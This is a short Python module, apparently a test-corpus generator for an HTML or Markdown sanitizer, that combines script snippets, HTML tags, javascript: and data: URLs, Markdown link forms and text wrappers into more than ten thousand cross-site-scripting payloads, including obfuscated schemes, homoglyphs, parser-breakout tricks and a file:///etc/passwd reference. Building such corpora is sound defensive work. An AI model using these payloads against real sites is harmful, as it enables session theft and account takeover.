"""Texts that try to become more than text, built from a few ideas and many disguises."""

MARK = "window.owned=1"

SCRIPTS = [MARK, "parent.owned=1", "top['own'+'ed']=1", "eval('window.owned=1')", "import('//127.0.0.1:9/x')", "fetch('//127.0.0.1:9/')"]
TAGS = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src='//127.0.0.1:9/x.js'></script>", "<script/x>{0}</script>",
    "<img src=x onerror=\"{0}\">", "<img src=x onerror={0}>", "<IMG SRC=`x` ONERROR=`{0}`>", "<img src='//127.0.0.1:9/p.png'>",
    "<svg onload=\"{0}\">", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{0}\"><text>x</text></a></svg>", "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<iframe src=\"javascript:{0}\">", "<object data=\"javascript:{0}\">",
    "<embed src=\"//127.0.0.1:9/x.swf\">", "<link rel=stylesheet href=//127.0.0.1:9/x.css>", "<style>@import '//127.0.0.1:9/x.css'</style>",
    "<base href=//127.0.0.1:9/>", "<meta http-equiv=refresh content='0;url=//127.0.0.1:9/'>", "<body onload={0}>", "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>",
    "<form action=\"javascript:{0}\"><button>x</button></form>", "<a href=\"javascript:{0}\">x</a>", "<isindex action=javascript:{0}>",
    "<template><img src=x onerror={0}></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<!--><img src=x onerror={0}>-->", "<![CDATA[><script>{0}</script>]]>", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
]
ADDRESSES = [
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java&#10;script:{0}", "&#106;avascript:{0}", "javascript&colon;{0}",
    "\x01javascript:{0}", " javascript:{0}", "data:text/html,<script>{0}</script>", "vbscript:{0}", "blob:{0}", "file:///etc/passwd",
    "//127.0.0.1:9/x", "http://127.0.0.1:9/x", "jаvascript:{0}", "javascript://%0a{0}", "view-source:javascript:{0}",
]
MARKDOWN = ["[x]({0})", "![x]({0})", "<{0}>", "[x]: {0}\n\n[x]", "[![x]({0})]({0})", "[x](<{0}>)", "[x]({0} \"t\")", "**[x]({0})**", "| [x]({0}) |\n| --- |\n| ![x]({0}) |"]
WRAPS = ["{0}", "> {0}", "- {0}", "1. {0}", "# {0}", "`{0}`", "| {0} |\n| --- |", "**{0}**", "\u202e{0}\u202c", "{0}\u0000", "\ufeff{0}", "x {0} y", "\u200b{0}"]


def payloads() -> list[str]:
    """More than ten thousand of them."""
    found = []
    for script in SCRIPTS:
        for tag in TAGS:
            found += [wrap.format(tag.format(script)) for wrap in WRAPS]
        for address in ADDRESSES:
            for shape in MARKDOWN:
                link = shape.format(address.format(script))
                found += [wrap.replace("{0}", link) for wrap in WRAPS]
    return [payload.replace("\x00", "") for payload in found]
